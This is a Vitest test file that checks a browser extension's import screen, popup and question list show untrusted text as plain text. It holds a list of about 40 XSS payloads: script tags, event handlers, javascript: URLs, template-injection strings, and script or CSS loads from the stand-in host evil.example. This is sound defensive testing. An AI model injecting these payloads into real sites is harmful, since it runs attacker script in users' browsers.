// @vitest-environment happy-dom
import { expect, test, vi } from 'vitest';
import { ImportSection } from '../../../components/import-section.tsx';
import { PopupApp } from '../../../components/popup-app.tsx';
import { QuestionList } from '../../../components/question-list.tsx';
import { useVault, type Vault } from '../../../components/use-vault.ts';
import type { Ask } from '../../../lib/ask.ts';
import type { TabReport } from '../../../lib/messages.ts';
import { emptyLists } from '../../../lib/qcm/import-lists.ts';
import { ACCESS } from './given-access.ts';
import { listed, makeQuestion, STATUS } from './given-vault.ts';
import { mount, press, the, type } from './mount.ts';

vi.mock('#i18n', () => import('./fake-i18n.ts'));

/** Texts that would be more than text wherever they were parsed as HTML. */
const PAYLOADS = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '<img src=x onerror=pwned()>',
  '<img src=`x` onerror=`pwned()`>',
  '<IMG """><SCRIPT>pwned()</SCRIPT>">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:pwned()">x</mi></math>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()">PARIS</a>',
  '<a href=" &#106;avascript:pwned()">PARIS</a>',
  '<form action="javascript:pwned()"><button>OK</button></form>',
  '<button formaction="javascript:pwned()">OK</button>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()><option>A</select>',
  '<textarea autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<body onload=pwned()>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href="//evil.example/">',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<x-element is="y" onclick=pwned()>z</x-element>',
  '<memo-qcm-note>note</memo-qcm-note>',
  '<table background="javascript:pwned()"><td>',
  '<marquee onstart=pwned()>x</marquee>',
  '&lt;img src=x onerror=pwned()&gt;',
  '{{constructor.constructor("pwned()")()}}',
  '\u0024{pwned()}',
  'javascript:pwned()',
];

/** Every element of the page, by its tag. */
const tagsOf = (body: HTMLElement) => [...body.querySelectorAll('*')].map(({ localName }) => localName);

const WAYS: Record<string, (text: string) => Promise<HTMLElement>> = {
  'a file': async (text) => {
    const counts = { added: 1, merged: 0, unchanged: 0, toVerify: 0, conflicts: 0 };
    const row = { question: text, answers: [text], more: 0 };
    const lists = { ...emptyLists(), added: [row], conflicts: [{ ...row, confirmed: false }] };
    const foreseen = { counts: { ...counts, conflicts: 1 }, lists };
    const ask = async (name: string) => (name === 'previewImport' ? foreseen : { held: 'h' });
    const vault = { questions: [], ask } as unknown as Vault; // all that the import asks of it
    const body = await mount(<ImportSection vault={vault} />);
    await type(the(body, 'textarea'), JSON.stringify({ [text]: [text, text] }));
    await press(body, 'Lire le texte collé');
    await type(the(body, 'textarea'), '');
    return body;
  },
  'a page': async (text) => {
    const tab: TabReport = {
      question: text,
      account: text,
      advice: { kind: 'candidates', candidates: [text], doubt: 'several', refused: [text] },
      step: 'marked',
      mode: 'select',
      code: null,
      trouble: null,
      remembered: false,
      waits: false,
      asks: false,
      at: 0,
    };
    const offers = [{ account: text, question: text }];
    const replies: Record<string, unknown> = {
      status: { ...STATUS, tab, offers },
      list: listed(),
      draft: null,
    };
    const ask = (async (name: string) => (name in replies ? replies[name] : [])) as unknown as Ask; // of the shapes that the protocol names
    const Popup = () => <PopupApp vault={useVault(ask, 1)} access={ACCESS} onManage={() => {}} />;
    return mount(<Popup />);
  },
  'a keyboard': (text) =>
    mount(
      <QuestionList
        questions={[makeQuestion(text, { id: 'a', account: text })]}
        compact={false}
        query={text}
        status={null}
        onQuery={() => {}}
        onCopy={async () => true}
        onDraft={() => {}}
        onReveal={async () => [{ text, standing: 'declared', addedAt: 0 }]}
        onDelete={async () => true}
        onSave={async () => true}
      />,
    ),
};

test.each(Object.keys(WAYS))('what comes by %s is text, whatever it says', async (way) => {
  const show = WAYS[way] ?? (() => Promise.reject(new Error(way)));
  const plain = tagsOf(await show('PARIS ?'));
  expect(plain.length).toBeGreaterThan(5);
  for (const payload of PAYLOADS) {
    const body = await show(payload);
    expect(tagsOf(body), payload).toEqual(plain);
    expect(body.textContent, payload).toContain(payload.trim());
  }
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
});
